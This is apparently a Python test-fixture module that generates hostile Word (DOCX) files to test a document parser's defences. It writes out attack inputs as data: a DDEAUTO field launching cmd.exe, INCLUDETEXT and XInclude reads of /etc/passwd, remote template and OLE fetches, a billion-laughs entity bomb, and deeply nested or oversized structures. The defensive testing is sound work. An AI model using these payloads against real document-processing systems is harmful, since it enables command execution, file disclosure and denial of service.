"""Word files."""

import io
import warnings
import zipfile

from ingest.formats import DOCX
from tests.adapters.parser.hostile.tricks import SAID, hostile
from tests.ingest.archives import R, relationships
from tests.ingest.samples import W, docx_body, replaced_part

MAIN = "word/document.xml"
PARAGRAPH = f"<w:p><w:r><w:t>{SAID}</w:t></w:r></w:p>"


def main_part(body: str, before: str = "") -> bytes:
    return f"{before}<w:document {W}><w:body>{body}</w:body></w:document>".encode()


def with_main_part(body: str, before: str = "") -> bytes:
    return replaced_part(docx_body(PARAGRAPH), MAIN, main_part(body, before))


@hostile("chunks, pictures, templates and objects of another machine", DOCX)
def fetched(away: str) -> bytes:
    kinds = ("aFChunk", "image", "attachedTemplate", "oleObject")
    related = relationships(*((kind, away) for kind in kinds))
    whole = docx_body(f'{PARAGRAPH}<w:altChunk r:id="r1" xmlns:r="{R}"/>')
    return replaced_part(whole, "word/_rels/document.xml.rels", related.encode())


@hostile("fields that run and include", DOCX)
def fields(away: str) -> bytes:
    instructions = (
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;",
        f"INCLUDETEXT &quot;{away}&quot;",
        "INCLUDETEXT &quot;/etc/passwd&quot;",
    )
    return docx_body(
        PARAGRAPH
        + "".join(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
            f'{each}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            for each in instructions
        )
    )


@hostile("a file of the machine, included by XML", DOCX)
def included(_: str) -> bytes:
    space = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    return with_main_part(
        f'{PARAGRAPH}<xi:include {space} href="file:///etc/passwd" parse="text"/>'
    )


@hostile("a billion laughs", DOCX, "has_doctype")
def laughs(_: str) -> bytes:
    entities = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)
    )
    doctype = f"<!DOCTYPE x [{entities}]>"
    return with_main_part("<w:p><w:r><w:t>&a11;</w:t></w:r></w:p>", doctype)


@hostile("tables in tables, 60 deep", DOCX, "too_heavy")
def deep(_: str) -> bytes:
    return nested(60)


@hostile("tables in tables, 5,000 deep", DOCX, "broken_file")
def deepest(_: str) -> bytes:
    return nested(5_000)


def nested(depth: int) -> bytes:
    begin, end = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return with_main_part(begin * depth + PARAGRAPH + end * depth)


@hostile("an element of 200,000 attributes", DOCX)
def attributes(_: str) -> bytes:
    many = " ".join(f'a{n}="1"' for n in range(200_000))
    return with_main_part(f"{PARAGRAPH}<w:p><w:r><w:t {many}>x</w:t></w:r></w:p>")


@hostile("a main part that is there twice, with another text", DOCX, "broken_file")
def twice(_: str) -> bytes:
    whole = io.BytesIO(docx_body(PARAGRAPH))
    with warnings.catch_warnings(), zipfile.ZipFile(whole, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr(MAIN, main_part(PARAGRAPH.replace("lunes", "martes")))
    return whole.getvalue()


@hostile("a main part that is called otherwise where it lies", DOCX, "broken_file")
def misnamed(_: str) -> bytes:
    whole = bytearray(docx_body(PARAGRAPH))
    at = whole.index(MAIN.encode())
    whole[at : at + len(MAIN)] = MAIN.upper().encode()
    return bytes(whole)


@hostile("styles that rest on each other", DOCX)
def circular(_: str) -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:name w:val="s{n}"/>'
        f'<w:basedOn w:val="s{(n + 1) % 50}"/></w:style>'
        for n in range(50)
    )
    whole = docx_body(PARAGRAPH.replace("<w:p>", '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr>'))
    return replaced_part(whole, "word/styles.xml", f"<w:styles {W}>{styles}</w:styles>".encode())
